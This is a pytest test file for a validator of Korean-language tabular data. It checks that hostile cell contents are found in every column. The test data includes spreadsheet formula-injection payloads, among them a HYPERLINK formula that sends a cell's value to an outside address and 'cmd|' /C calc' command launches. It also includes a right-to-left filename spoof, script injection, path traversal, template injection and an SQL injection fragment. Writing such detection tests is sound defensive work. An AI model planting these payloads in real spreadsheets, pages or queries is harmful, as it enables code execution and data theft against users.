"""Hostile text in any column is found and named; the command neither breaks down nor lets it pass."""

import json
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import ROOT
from site_hostile import bound, free, resources, rewrite

# What is never legal in a cell of text, and the rule that must find it, whatever else does.
KINDS = {
    "formula": ("formula", '=HYPERLINK("http://example.org?"&A1,"x")'),
    "formula by plus": ("formula", "+cmd|' /C calc'!A0"),
    "formula by minus": ("formula", "-2+3+cmd|' /C calc'!A0"),
    "formula by at": ("formula", "@SUM(1+1)*cmd|' /C calc'!A0"),
    "control character": ("control-character", "가\x1b[2J나"),
    "null": ("control-character", "가\x00나"),
    "line break": ("line-break", "가\n나"),
    "right to left": ("direction", "가\u202egnp.exe나"),
    "isolate": ("direction", "가\u2066나\u2069"),
    "invisible": ("invisible", "가\u200b나"),
    "decomposed": ("decomposed", "\u1100\u1161"),
    "private use": ("unreadable", "가\uf0a7나"),
    "long": ("long-cell", "가" * 40_000),
}
# Text that may stand in a column of free text, but never where a code, a key or an address belongs.
MISPLACED = (
    "<script>window.pwned=1</script>",
    "../../etc/passwd",
    "{{ 7*7 }}",
    "javascript:window.pwned=1",
    "가'; DROP--",
)


def _run(root: Path) -> subprocess.CompletedProcess:
    command = [sys.executable, ROOT / "scripts/validate.py", root, "--format", "json"]
    return subprocess.run(command, capture_output=True, text=True, check=False, encoding="utf-8")


def _validate(root: Path) -> list[dict]:
    """The findings of the command, which must have found something and broken down nowhere."""
    done = _run(root)
    assert (done.returncode, done.stderr) == (1, "")
    return json.loads(done.stdout)["findings"]


def _first(columns: set[tuple[str, str]], text: str):
    """A change that puts ``text`` into the first cell of the columns."""
    return lambda table, column, cells: [text, *cells[1:]] if (table, column) in columns else cells


def _places(findings: list[dict], rule: str = "") -> set[tuple[str, str]]:
    return {(Path(each["path"]).stem, each["column"]) for each in findings if rule in ("", each["rule"])}


@pytest.mark.parametrize("kind", KINDS)
def test_text_that_is_never_legal_is_found_in_every_column(tiny: Path, kind: str) -> None:
    rule, text = KINDS[kind]
    columns = {(table["name"], name) for table in resources(tiny) for name in free(table)}
    assert len(columns) == 224
    rewrite(tiny, _first(columns, text))
    assert columns <= _places(_validate(tiny), rule)


@pytest.mark.parametrize("text", MISPLACED)
def test_text_in_the_place_of_a_code_is_found_in_every_column(tiny: Path, text: str) -> None:
    columns = {(table["name"], name) for table in resources(tiny) for name in bound(table)}
    assert len(columns) == 167
    # In each column another text, or a key and what refers to it would still agree.
    rewrite(
        tiny, lambda table, name, cells: [f"{text}{table}.{name}", *cells[1:]] if (table, name) in columns else cells
    )
    assert columns - _places(_validate(tiny)) == set()


def test_an_address_that_is_script_is_found(tiny: Path) -> None:
    columns = {("documents", "url"), ("documents", "archived_url"), ("governments", "website")}
    for text in (
        "javascript:window.pwned=1",
        "JaVaScRiPt://x.example/%0awindow.pwned=1",
        "data:text/html,x",
        "//x.example",
    ):
        rewrite(tiny, _first(columns, text))
        assert columns - _places(_validate(tiny)) == set()


def test_a_cell_of_a_megabyte_in_every_table_is_found(tiny: Path) -> None:
    columns = {(table["name"], free(table)[-1]) for table in resources(tiny) if free(table)}
    assert len(columns) == 60
    rewrite(tiny, _first(columns, "가나다라 " * 80_000))
    assert columns <= _places(_validate(tiny), "long-cell")


def test_a_file_of_nothing_but_noise_is_refused_in_words(tiny: Path) -> None:
    noise = bytes(range(256)) * 400
    for table in resources(tiny):
        (tiny / table["path"]).write_bytes(noise)
    done = _run(tiny)
    assert (done.returncode, done.stderr) == (2, "읽은 행이 하나도 없습니다.\n")
    assert {each["rule"] for each in json.loads(done.stdout)["findings"]} == {"encoding"}
